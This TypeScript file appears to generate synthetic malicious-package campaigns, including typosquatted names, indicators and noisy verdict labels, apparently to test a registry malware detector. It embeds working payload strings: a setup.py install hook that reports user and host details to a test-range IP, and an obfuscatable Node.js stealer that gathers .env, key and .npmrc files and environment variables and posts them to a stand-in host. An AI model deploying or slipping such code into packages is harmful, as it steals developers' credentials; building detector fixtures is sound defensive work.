import { address, DAYS, START, word } from './campaigns-world.ts'
import type { Whole, World } from './campaigns-world.ts'
import { codeOf, noun, setupPy } from './campaigns-code.ts'

const MINUTE = 60_000
const POPULAR = `requests urllib3 mysql-python opencv-python pyinstaller jinja2 gevent tensorflow-gpu sqlalchemy mysqlclient redis django flask numpy
  pandas scipy matplotlib pillow boto3 botocore setuptools certifi idna chardet pyyaml cryptography click six werkzeug pytest tornado twisted celery
  scikit-learn beautifulsoup4 selenium psycopg2 pymongo paramiko ansible protobuf grpcio keras theano torch torchvision networkx sympy nltk spacy
  gensim aiohttp fastapi uvicorn gunicorn virtualenv pipenv poetry black pylint mypy flake8 coverage tqdm colorama rich typer httpx lxml openpyxl`.split(/\s+/)

/** One slip of the keyboard in a popular name. */
function squat(world: World): { name: string; target: string } {
  const { random } = world
  for (;;) {
    const target = random.pick(POPULAR)
    const at = 1 + random.below(target.length - 1)
    const name = random.pick([
      target.slice(0, at) + target.slice(at + 1),
      target.slice(0, at) + (target[at] ?? '') + target.slice(at),
      target.slice(0, at - 1) + (target[at] ?? '') + (target[at - 1] ?? '') + target.slice(at + 1),
      target.slice(0, at) + random.letters(1) + target.slice(at),
    ])
    if (!POPULAR.includes(name)) return { name, target }
  }
}

/**
 * Case C: one address, every version 1.0.0, names that imitate popular ones, metadata copied from one project; an install script that
 * tells a server about the machine. Some names no list knows, one verdict in ten is not sure.
 */
export function caseC(world: World, count = 354): Whole[] {
  const { random } = world
  const names = new Map<string, string>()
  while (names.size < count) {
    const { name, target } = squat(world)
    names.set(name, target)
  }
  const email = address(random)
  const module = world.module(4)
  let at = START + random.below(120) * MINUTE
  return [...names].map(([name, target]) => {
    at += Math.floor((DAYS * 24 * 60 * MINUTE * 0.95 / count) * 2 * random.next())
    const description = 'A utility library that makes work with records and tables of the ledger easier'
    const files = { 'setup.py': setupPy(1, { name, version: '1.0.0', description }) + COLLECT('192.0.2.100'), 'pkg/__init__.py': module }
    return {
      ...world.blank(name, at), version: '1.0.0', emails: [email], description, ...codeOf(name, files), readme: 'copied-readme', metadataFrom: 'ledger-tables',
      indicators: [{ type: 'url', value: 'http://192.0.2.100:8000/api/python/' }], imitates: random.chance(0.95) ? target : null, malicious: random.chance(0.9) ? true : null,
    }
  })
}

const COLLECT = (host: string): string => `
import platform, socket, getpass, json
try:
    from urllib.request import Request, urlopen
except ImportError:
    from urllib2 import Request, urlopen

def tell():
    info = {'os': platform.system(), 'user': getpass.getuser(), 'host': socket.gethostname()}
    request = Request('http://${host}:8000/api/python/', data=json.dumps(info).encode(), headers={'Content-Type': 'application/json'})
    urlopen(request, timeout=5).read()

tell()
raise SystemExit('please uninstall this package')
`

export interface FloodOptions {
  count?: number
  /** Share of verdicts that say malicious, and of those that see nothing; the others are unsure. */
  found?: number
  missed?: number
  /** Share of names that imitate a protected one. */
  imitating?: number
}

/** The same program under one account a package: other names inside and outside, another server, other words about it, some junk code. */
export function disguisedFlood(world: World, { count = 400, found = 0.85, missed = 0.05, imitating = 0.1 }: FloodOptions = {}): Whole[] {
  const { random } = world
  let at = START + random.below(24 * 60) * MINUTE
  return Array.from({ length: count }, () => {
    at += Math.floor(random.next() * 12 * MINUTE)
    const name = world.name(null)
    const host = `${random.letters(9)}.${random.pick(['drop', 'cdn', 'api'])}-${random.letters(5)}.example`
    const files = { [`index.${world.ending}`]: world.ecosystem === 'npm' ? stealer(world, host) : COLLECT(host) + world.module(1) }
    const verdict = random.next()
    return {
      ...world.blank(name, at), version: `${random.below(4)}.${random.below(12)}.${random.below(30)}`, account: `${random.letters(6)}${random.below(10_000)}`, emails: [address(random)],
      description: `${word(random)} ${word(random)} ${word(random)} to ${word(random)} every ${word(random)}`, ...codeOf(name, files), readme: random.hex(32),
      indicators: [{ type: 'url', value: `https://${host}/${random.letters(8)}` }, { type: 'domain', value: host }],
      dependencies: Array.from({ length: random.below(4) }, () => `popular-${random.skewed(2000)}`),
      imitates: random.chance(imitating) ? random.pick(POPULAR) : null, malicious: verdict < found ? true : verdict < found + missed ? false : null,
    }
  })
}

/** All that can be renamed has another name in every copy; every third copy has a function of junk. */
function stealer(world: World, host: string): string {
  const { random } = world
  const names = new Map<string, string>()
  const renamed = STEALER.replaceAll(/\$(\w+)/g, (_, name: string) => {
    if (!names.has(name)) names.set(name, random.chance(0.5) ? `_0x${random.hex(6)}` : `${noun(random)}${random.letters(2)}`)
    return names.get(name) as string
  })
  return renamed.replace('HOST', `https://${host}/${random.letters(8)}`) + (random.chance(0.3) ? world.module(1) : '')
}

const STEALER = `const $os = require('os')
const $https = require('https')
const $fs = require('fs')
const $path = require('path')

function $collect($folder, $depth) {
  const $found = []
  if ($depth > 3) return $found
  for (const $entry of $fs.readdirSync($folder, { withFileTypes: true })) {
    const $full = $path.join($folder, $entry.name)
    if ($entry.isDirectory() && !$entry.name.startsWith('.')) $found.push(...$collect($full, $depth + 1))
    else if (/\\.(?:env|pem|key)$/.test($entry.name) || $entry.name === '.npmrc') $found.push($full)
  }
  return $found
}

function $report($data, $done) {
  const $body = Buffer.from(JSON.stringify($data)).toString('base64')
  const $request = $https.request('HOST', { method: 'POST', headers: { 'content-type': 'text/plain', 'content-length': $body.length } }, ($answer) => {
    let $text = ''
    $answer.on('data', ($part) => { $text += $part })
    $answer.on('end', () => $done($text))
  })
  $request.on('error', () => setTimeout(() => $report($data, $done), 60000 * 5))
  $request.end($body)
}

try {
  const $home = $os.homedir()
  const $files = {}
  for (const $file of $collect($home, 0).slice(0, 40)) $files[$file] = $fs.readFileSync($file, 'utf8').slice(0, 4096)
  $report({ user: $os.userInfo().username, host: $os.hostname(), platform: process.platform, env: process.env, files: $files }, ($answer) => {
    if ($answer.length > 10) module.exports.$run = $answer
  })
} catch ($error) {
  module.exports.$failed = String($error)
}
`

/** Attackers who have nothing to do with each other: each with an account, a program and a server of his own, all with the services everybody uses. */
export function strangersWithOneHabit(world: World, attackers: number, packages: number): Whole[] {
  const { random } = world
  return Array.from({ length: attackers }, (_, attacker) => {
    const own = world.module(6)
    return Array.from({ length: packages }, (): Whole => ({
      ...world.blank(world.name(null), START + random.below(DAYS * 24 * 60) * MINUTE), version: '1.0.0', account: `attacker-${attacker}`, ...codeOf('x', { [`index.${world.ending}`]: own }),
      indicators: ['chat-hooks.example', 'ip-echo.example', `server-${attacker}.example`].map((value) => ({ type: 'domain', value })), malicious: random.chance(0.9) ? true : null,
    }))
  }).flat()
}
